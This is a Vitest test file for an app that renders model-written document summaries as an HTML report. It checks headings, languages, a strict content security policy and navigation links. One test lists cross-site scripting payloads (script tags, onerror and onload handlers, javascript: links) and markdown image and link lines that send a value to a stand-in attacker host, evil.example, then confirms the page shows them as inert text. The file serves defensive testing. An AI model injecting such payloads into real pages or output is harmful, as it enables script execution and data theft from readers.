import { createHash } from 'node:crypto'
import { parseHTML } from 'linkedom'
import { describe, expect, it } from 'vitest'
import { reportAsHtml } from '../../../electron/runner/report/as-html.ts'
import { sampleReport } from './sample.ts'

const open = (...changes: Parameters<typeof sampleReport>) => parseHTML(reportAsHtml(sampleReport(...changes))).document
const textOf = (document: Document, selector: string) =>
  [...document.querySelectorAll(selector)].map((element) => element.textContent.trim().replace(/\s+/g, ' '))

describe('a report as a page', () => {
  it('holds all of the report under its headings', () => {
    const page = open()
    expect(textOf(page, 'h1')).toEqual(['What matters'])
    expect(page.title).toBe('What matters')
    expect(textOf(page, 'h2')).toEqual(['At a glance', 'Documents', 'Left out'])
    expect(textOf(page, 'header .facts li')).toEqual([
      'Contracts & minutes',
      'November 24, 2026',
      '2 documents',
      '1 left out',
      'Made with Vendor Small',
    ])
    expect(textOf(page, 'article h3')).toEqual(['contracts/lease.pdf', '会议纪要.txt'])
    expect(textOf(page, 'article .facts li')).toEqual(['12 pages', '2 pages are pictures only and were not read.'])
    expect(textOf(page, 'article td')).toEqual(['May', '4,326'])
    expect(textOf(page, 'dt')).toEqual(['old <scan>.pdf'])
    expect(textOf(page, 'dd')[0]).toContain('The document has no text in it.')
  })

  it('keeps the headings in order below the document’s own', () => {
    expect(textOf(open(), 'article h4')).toEqual(['Rent'])
    const deep = open({ summaries: { overall: { text: '## Two\n\n### Three\n\n###### Six', shortened: false } } })
    expect(textOf(deep, 'section div h3')).toEqual(['Two'])
    expect(textOf(deep, 'section div h4')).toEqual(['Three', 'Rent'])
    expect(textOf(deep, 'section div h6')).toEqual(['Six'])
  })

  it('says which language each text is in', () => {
    const page = open({ order: { language: 'zh-CN' } })
    expect(page.documentElement.getAttribute('lang')).toBe('zh-CN')
    expect([...page.querySelectorAll('article > div')].map((div) => div.getAttribute('lang'))).toEqual(['en', 'zh-CN'])
  })

  it('allows its own style by its hash and nothing else', () => {
    const page = open()
    const policy = page.querySelector('meta[http-equiv]')?.getAttribute('content') ?? ''
    const style = page.querySelector('style')?.textContent ?? ''
    const hash = createHash('sha256').update(style).digest('base64')
    expect(policy).toBe(`default-src 'none'; style-src 'sha256-${hash}'; base-uri 'none'; form-action 'none'`)
    expect(page.querySelectorAll('style')).toHaveLength(1)
    expect(
      page.querySelectorAll('script, img, link, iframe, object, form, [style], [onerror], [onclick]'),
    ).toHaveLength(0)
    expect(style).toContain('prefers-color-scheme: dark')
    expect(style).toContain('@media print')
  })

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '![chart](http://evil.example/a.png?rent=4200)',
    '[click](javascript:alert(1))',
    '[click](http://evil.example/?rent=4200)',
    '<http://evil.example>',
    '[a][b]\n\n[b]: http://evil.example',
    '</div></main><script>alert(1)</script>',
    '```"><script>alert(1)</script>\ncode\n```',
    '<!-- --><svg onload=alert(1)>',
    '| a |\n|---|\n| <script>alert(1)</script> ![x](http://evil.example) |',
  ])('shows what a model slips in as plain text: %j', (text) => {
    const passage = { text, shortened: false }
    const page = open({
      title: text,
      summaries: {
        overall: passage,
        focus: text,
        documents: [
          {
            relativePath: text,
            pages: null,
            kind: 'txt',
            language: 'en',
            warnings: [],
            summary: text,
            shortened: false,
          },
        ],
        leftOut: [{ item: text, error: { code: 'document.broken', params: { name: text }, detail: '' } }],
      },
      order: { modelLabel: text },
    })
    expect(page.querySelectorAll('script, img, a, iframe, svg, [onerror], [onload]')).toHaveLength(0)
    expect(page.querySelectorAll('main')).toHaveLength(1)
    expect(page.body.textContent).toContain(text.includes('alert') ? 'alert(1)' : 'evil.example')
  })

  it('offers a list to jump from once there are many documents', () => {
    const one = { pages: null, kind: 'txt', language: 'en', warnings: [], summary: 'Words.', shortened: false }
    const documents = Array.from({ length: 4 }, (_, index) => ({ ...one, relativePath: `${index}.txt` }))
    const page = open({ summaries: { documents } })
    for (const link of page.querySelectorAll('nav a')) {
      expect(page.querySelector(link.getAttribute('href') ?? '')?.tagName).toBe('ARTICLE')
    }
    expect(page.querySelectorAll('nav a')).toHaveLength(4)
    expect(open().querySelectorAll('nav')).toHaveLength(0)
  })
})
